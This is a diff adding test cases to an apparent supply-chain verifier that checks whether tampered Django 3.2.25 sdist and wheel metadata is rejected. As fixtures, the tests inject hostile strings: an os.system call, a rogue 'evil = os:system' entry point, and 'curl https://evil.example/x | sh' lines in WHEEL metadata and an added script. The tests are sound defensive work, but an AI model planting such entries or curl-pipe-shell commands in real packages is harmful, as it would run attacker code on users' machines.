@@ -82,6 +82,29 @@ describe.skipIf(!SDIST)('poisoned builds of the real Django 3.2.25', () => {
     }
   });
 
+  it('fails text in entry_points.txt that a reader skips but setuptools never writes (a comment, a line before any group, another layout)', () => {
+    const edits: [string, (text: string) => string][] = [
+      ['a comment', (text) => `${text}# import os; os.system("id")\n`],
+      ['a line before any group', (text) => `evil = os:system\n${text}`],
+      ['spaces around the name', (text) => text.replace('django-admin = ', 'django-admin  =  ')],
+      ['a group header spelled twice', (text) => text.replace('[console_scripts]', '[[console_scripts]]')],
+    ];
+    for (const [what, edit] of edits) {
+      const s = editFile(sdist, `${EGG}/entry_points.txt`, edit);
+      const w = withFreshRecord(editFile(wheel, `${DIST}/entry_points.txt`, edit), DIST);
+      const checks = judge(s, w);
+      expect(failed(checks), what).toEqual(['content.sdist-metadata', 'content.wheel-metadata']);
+      expect(message(checks, 'content.wheel-metadata'), what).toMatch(/entry_points\.txt/);
+    }
+  });
+
+  it('fails a WHEEL file whose Generator is not a build tool and version', () => {
+    const w = withFreshRecord(editFile(wheel, `${DIST}/WHEEL`, (t) => t.replace(/^Generator: .*$/m, 'Generator: bdist_wheel (0.38.4); curl https://evil.example/x | sh')), DIST);
+    const checks = judge(sdist, w);
+    expect(failed(checks)).toEqual(['content.wheel-metadata']);
+    expect(message(checks, 'content.wheel-metadata')).toMatch(/Generator/);
+  });
+
   it('fails a script placed in the egg-info and installed by the wheel as a new command', () => {
     const script = '#!python\nimport os; os.system("curl evil | sh")\n';
     const s = withFile(sdist, `${EGG}/scripts/evil`, script, 0o755);
